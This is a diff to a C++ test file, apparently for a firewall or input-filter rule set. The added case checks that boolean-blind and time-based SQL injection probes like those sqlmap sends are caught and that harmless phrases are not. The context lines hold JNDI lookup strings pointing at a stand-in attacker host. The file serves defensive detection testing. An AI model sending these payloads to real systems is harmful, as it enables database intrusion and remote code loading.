@@ -435,3 +435,14 @@ TEST_CASE("5003 leaves the LDAP and SFTP URLs of settings forms; internal target
                {6502, "$\\u007bjndi:ldap://evil.example/a}"},
                {6502, "jndi:rmi://203.0.113.7:1099/x"}});
 }
+
+TEST_CASE("1009/1015: boolean-blind probes with a parenthesised CASE WHEN or subquery (sqlmap's forms)") {
+  CheckCaught({{1009, "1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)"},
+               {1009, "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"},
+               {1015, "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"},
+               {1009, "x' OR (SELECT 1)='1"},
+               {1009, "1 AND (IF(1=1,SLEEP(5),0))"}});
+  CheckNotMatched({"pick a size and (select a colour) then pay", "restart and (if needed) clear the cache",
+                   "in case when you travel", "bread and (case of) butter"},
+                  {1009, 1015});
+}
